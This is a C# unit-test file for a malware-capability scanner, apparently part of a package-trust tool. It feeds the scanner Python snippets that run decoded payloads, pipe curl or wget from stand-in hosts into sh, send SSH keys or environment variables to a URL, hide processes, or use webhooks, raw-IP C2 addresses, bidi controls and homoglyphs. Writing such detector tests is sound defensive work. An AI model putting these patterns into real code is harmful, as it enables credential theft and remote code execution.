using TrustCheck.Artifacts.Capabilities;
using TrustCheck.Artifacts.Findings;

namespace TrustCheck.Artifacts.Tests.Capabilities;

/// <summary>Each capability rule on code that must trigger it and on look-alike code that must not.</summary>
public sealed class CapabilityRuleTests
{
    [Theory]
    [InlineData("import base64\nexec(base64.b64decode('cHJpbnQoMSk='))\n", "base64.b64decode")]
    [InlineData("from base64 import b64decode as d\neval(d(blob))\n", "base64.b64decode")]
    [InlineData("import zlib, base64\nexec(zlib.decompress(base64.b64decode(x)))\n", "zlib.decompress")]
    [InlineData("exec(''.join(chr(c) for c in [112, 114, 105, 110, 116]))\n", "chr")]
    [InlineData("import urllib.request\nexec(urllib.request.urlopen('https://example.org/x').read())\n", "urllib.request.urlopen")]
    [InlineData("import codecs\nexec(codecs.decode('cevag(1)', 'rot13'))\n", "codecs.decode")]
    [InlineData("import base64\npayload = base64.b64decode(DATA)\nstage = payload\nexec(stage)\n", "'stage'")]
    [InlineData("import marshal\nexec(marshal.loads(code))\n", "marshal.loads")]
    [InlineData("__import__('builtins').exec(__import__('base64').b64decode(x))\n", "base64.b64decode")]
    [InlineData("import builtins, base64\ngetattr(builtins, 'exec')(base64.b64decode(x))\n", "base64.b64decode")]
    [InlineData("import base64\n__builtins__['exec'](base64.b64decode(x))\n", "base64.b64decode")]
    [InlineData("import builtins, zlib\nbuiltins.__dict__['eval'](zlib.decompress(x))\n", "zlib.decompress")]
    public void DecodedExecution_IsFound(string source, string producer)
    {
        var hit = Assert.Single(Snippets.Hits(source, CapabilityCodes.DecodedExecution));

        Assert.Contains(producer, hit.Detail, StringComparison.Ordinal);
        Assert.Equal((ArtifactSeverity.Critical, CodeLocation.ImportTime), (hit.BaseSeverity, hit.Location));
    }

    [Theory]
    [InlineData("exec(compile(open(path).read(), path, 'exec'))\n")]
    [InlineData("import re\npattern = re.compile(base64_pattern)\n")]
    // Reassigned before the exec in the same straight-line block: the exec never sees the decoded data.
    [InlineData("import base64\ndata = base64.b64decode(x)\ndata = 'print(1)'\nexec(data)\n")]
    [InlineData("import base64\ndef f():\n    data = base64.b64decode(x)\n    data = 'print(1)'\n    exec(data)\n")]
    [InlineData("import base64\nprint(base64.b64decode(x))\neval('1 + 1')\n")]
    [InlineData("s = \"exec(base64.b64decode('x'))\"\n# exec(base64.b64decode(x))\n")]
    public void DecodedExecution_LookAlike_IsNotFound(string source)
    {
        Assert.Empty(Snippets.Hits(source, CapabilityCodes.DecodedExecution));
    }

    [Fact]
    public void DecodedExecution_InsideAFunction_IsLocatedThere()
    {
        var hit = Assert.Single(Snippets.Hits("import base64\ndef run():\n    exec(base64.b64decode(x))\n", CapabilityCodes.DecodedExecution));

        Assert.Equal(CodeLocation.Function, hit.Location);
        Assert.Equal(3, hit.Line);
    }

    [Fact]
    public void DecodedExecution_AfterAFunction_IsBackAtModuleLevel()
    {
        var hit = Assert.Single(Snippets.Hits("import base64\ndef f():\n    return 1\n\nclass C:\n    def g(self): pass\n    exec(base64.b64decode(x))\n", CapabilityCodes.DecodedExecution));

        Assert.Equal(CodeLocation.ImportTime, hit.Location);
    }

    [Theory]
    [InlineData("import marshal\ncode = marshal.loads(blob)\n")]
    [InlineData("from marshal import load\nf = load(fh)\n")]
    public void CodeDeserialization_IsFound(string source)
    {
        Assert.Single(Snippets.Hits(source, CapabilityCodes.CodeDeserialization));
    }

    [Theory]
    [InlineData("import json\ndata = json.loads(blob)\n")]
    [InlineData("import marshal\nblob = marshal.dumps(code)\n")]
    public void CodeDeserialization_LookAlike_IsNotFound(string source)
    {
        Assert.Empty(Snippets.Hits(source, CapabilityCodes.CodeDeserialization));
    }

    [Theory]
    [InlineData("import urllib.request, subprocess\nurllib.request.urlretrieve('https://x.example/a', '/tmp/a')\nsubprocess.Popen(['/tmp/a'])\n")]
    [InlineData("import requests, os\ndef go():\n    r = requests.get(URL)\n    os.system(r.text)\n")]
    [InlineData("from urllib.request import urlopen\ncode = urlopen(u).read()\nexec(code)\n")]
    public void DownloadThenExecute_IsFound(string source)
    {
        Assert.Single(Snippets.Hits(source, CapabilityCodes.DownloadThenExecute));
    }

    [Theory]
    [InlineData("import requests, subprocess\ndef fetch():\n    return requests.get(URL)\n\ndef build():\n    subprocess.run(['make'])\n")]
    [InlineData("import subprocess, requests\nsubprocess.run(['git', 'status'])\nrequests.get(URL)\n")]
    public void DownloadThenExecute_InSeparateFunctionsOrInTheOtherOrder_IsNotFound(string source)
    {
        Assert.Empty(Snippets.Hits(source, CapabilityCodes.DownloadThenExecute));
    }

    [Theory]
    [InlineData("import os\nos.system('curl -s https://x.example/i | sh')\n", ArtifactSeverity.High)]
    [InlineData("import subprocess\nsubprocess.Popen('wget -qO- http://x.example/a|bash', shell=True)\n", ArtifactSeverity.High)]
    [InlineData("import subprocess\nsubprocess.run(['powershell', '-NoProfile', '-WindowStyle', 'Hidden -enc ZQBjAGgAbwA='])\n", ArtifactSeverity.High)]
    [InlineData("import subprocess\nsubprocess.Popen(['miner.exe'], creationflags=subprocess.CREATE_NO_WINDOW)\n", ArtifactSeverity.Medium)]
    public void ConcealedProcess_IsFound(string source, ArtifactSeverity severity)
    {
        Assert.Equal(severity, Assert.Single(Snippets.Hits(source, CapabilityCodes.ConcealedProcess)).BaseSeverity);
    }

    [Theory]
    [InlineData("import subprocess\nsubprocess.run(['git', 'log', '--format=%H|%s'])\n")]
    [InlineData("import subprocess\nsubprocess.check_output(['sh', '-c', 'echo ok'])\n")]
    [InlineData("pipeline = 'curl x | sh'\n")]
    public void ConcealedProcess_LookAlike_IsNotFound(string source)
    {
        Assert.Empty(Snippets.Hits(source, CapabilityCodes.ConcealedProcess));
    }

    [Theory]
    [InlineData("import os, requests\nkey = open(os.path.expanduser('~/.ssh/id_rsa')).read()\nrequests.post(URL, data=key)\n", ".ssh/")]
    [InlineData("import os, requests\nrequests.post(URL, json=dict(os.environ))\n", "os.environ")]
    [InlineData("import socket\np = '~/.aws/credentials'\ns = socket.socket()\n", ".aws/")]
    public void CredentialExfiltration_IsFound(string source, string what)
    {
        Assert.Contains(what, Assert.Single(Snippets.Hits(source, CapabilityCodes.CredentialExfiltration)).Detail, StringComparison.Ordinal);
    }

    [Theory]
    [InlineData("import os\nkey = open(os.path.expanduser('~/.ssh/id_rsa')).read()\n")]
    [InlineData("import os, requests\nrequests.post(URL, headers={'token': os.environ['TOKEN']})\n")]
    [InlineData("import os, subprocess\nenv = dict(os.environ)\nsubprocess.run(['make'], env=env)\n")]
    public void CredentialExfiltration_WithoutASendOrWithOneVariable_IsNotFound(string source)
    {
        Assert.Empty(Snippets.Hits(source, CapabilityCodes.CredentialExfiltration));
    }

    [Theory]
    [InlineData("HOOK = 'https://discord.com/api/webhooks/123/abc'\n")]
    [InlineData("u = f'https://api.telegram.org/bot{token}/sendMessage'\n")]
    [InlineData("u = 'https://abc.oast.fun/x'\n")]
    public void WebhookEndpoint_IsFound(string source)
    {
        Assert.Single(Snippets.Hits(source, CapabilityCodes.WebhookEndpoint));
    }

    [Theory]
    [InlineData("URL = 'https://discord.com/developers/docs'\n")]
    [InlineData("# https://discord.com/api/webhooks/123/abc\n")]
    public void WebhookEndpoint_LookAlike_IsNotFound(string source)
    {
        Assert.Empty(Snippets.Hits(source, CapabilityCodes.WebhookEndpoint));
    }

    [Theory]
    [InlineData("C2 = 'http://45.61.136.2:8080/gate'\n")]
    [InlineData("C2 = 'tcp://185.199.108.1'\n")]
    public void RawIpUrl_IsFound(string source)
    {
        Assert.Single(Snippets.Hits(source, CapabilityCodes.RawIpUrl));
    }

    [Theory]
    [InlineData("URL = 'http://127.0.0.1:8000/'\n")]
    [InlineData("URL = 'http://192.168.1.10/'\n")]
    [InlineData("URL = 'http://10.0.0.1/'\n")]
    [InlineData("URL = 'https://192.0.2.1/doc'\n")]
    [InlineData("VERSION = 'see http://1.2.3.4.5/'\n")]
    [InlineData("ADDRESS = '45.61.136.2'\n")]
    public void RawIpUrl_PrivateLoopbackDocumentationOrNotAUrl_IsNotFound(string source)
    {
        Assert.Empty(Snippets.Hits(source, CapabilityCodes.RawIpUrl));
    }

    [Fact]
    public void BidiControl_IsFound()
    {
        var hit = Assert.Single(Snippets.Hits("access_level = 'user'\nif access_level != 'none\u202E \u2066# Check if admin\u2069 \u2066':\n    pass\n", CapabilityCodes.BidiControl));

        Assert.Equal(2, hit.Line);
    }

    [Fact]
    public void BidiControl_RightToLeftTextWithoutControls_IsNotFound()
    {
        Assert.Empty(Snippets.Hits("GREETING = 'שלום עולם'\nLRM = '\u200E'\n", CapabilityCodes.BidiControl));
    }

    [Theory]
    [InlineData("def рrint(x):\n    pass\n")]
    [InlineData("ехес = eval\n")]
    public void HomoglyphIdentifier_IsFound(string source)
    {
        Assert.Single(Snippets.Hits(source, CapabilityCodes.HomoglyphIdentifier));
    }

    [Theory]
    [InlineData("π = 3.14159\n")]
    [InlineData("приветствие = 'hello'\n")]
    [InlineData("café = 1\n")]
    public void HomoglyphIdentifier_SingleScriptOrAccentedLatin_IsNotFound(string source)
    {
        Assert.Empty(Snippets.Hits(source, CapabilityCodes.HomoglyphIdentifier));
    }

    [Fact]
    public void EncodedBlob_IsFound()
    {
        var blob = Convert.ToBase64String(Enumerable.Range(0, 900).Select(i => (byte)(i * 7)).ToArray());

        Assert.Contains("base64", Assert.Single(Snippets.Hits($"DATA = '{blob}'\n", CapabilityCodes.EncodedBlob)).Detail, StringComparison.Ordinal);
    }

    [Fact]
    public void EncodedBlob_SplitIntoAdjacentLiterals_IsReadWhole()
    {
        var blob = Convert.ToBase64String(Enumerable.Range(0, 900).Select(i => (byte)(i * 7)).ToArray());
        var pieces = string.Join("\n", blob.Chunk(76).Select(c => $"    '{new string(c)}'  # part"));

        var hit = Assert.Single(Snippets.Hits($"DATA = (\n{pieces}\n)\n", CapabilityCodes.EncodedBlob));

        Assert.Contains("adjacent pieces", hit.Detail, StringComparison.Ordinal);
        Assert.Equal(2, hit.Line);
    }

    [Fact]
    public void EncodedBlob_LiteralsSeparatedByCode_AreNotJoined()
    {
        var blob = Convert.ToBase64String(Enumerable.Range(0, 600).Select(i => (byte)(i * 7)).ToArray());

        Assert.Empty(Snippets.Hits($"A = '{blob}'\nB = '{blob}'\nC = ['{blob}', '{blob}']\n", CapabilityCodes.EncodedBlob));
    }

    [Theory]
    [InlineData("short")]
    [InlineData("prose")]
    [InlineData("pem")]
    public void EncodedBlob_ShortProseOrCertificate_IsNotFound(string kind)
    {
        var blob = Convert.ToBase64String(Enumerable.Range(0, 900).Select(i => (byte)(i * 7)).ToArray());
        var literal = kind switch
        {
            "short" => blob[..200],
            "prose" => string.Concat(Enumerable.Repeat("The quick brown fox jumps over the lazy dog. ", 40)),
            _ => "-----BEGIN CERTIFICATE-----\\n" + blob + "\\n-----END CERTIFICATE-----",
        };

        Assert.Empty(Snippets.Hits($"DATA = '{literal}'\n", CapabilityCodes.EncodedBlob));
    }

    [Fact]
    public void InstallTimeAction_InSetupScript_IsFound()
    {
        var hit = Assert.Single(Snippets.Hits("import subprocess\nfrom setuptools import setup\nsubprocess.call(['curl', 'x'])\nsetup(name='x')\n", CapabilityCodes.InstallTimeAction, CodeLocation.SetupScript));

        Assert.Contains("process execution", hit.Detail, StringComparison.Ordinal);
    }

    [Fact]
    public void InstallTimeAction_InAnImportedModule_IsNotFound()
    {
        Assert.Empty(Snippets.Hits("import subprocess\nsubprocess.call(['ls'])\n", CapabilityCodes.InstallTimeAction));
        Assert.Empty(Snippets.Hits("import subprocess\ndef version():\n    return subprocess.check_output(['git', 'describe'])\n", CapabilityCodes.InstallTimeAction));
    }
}
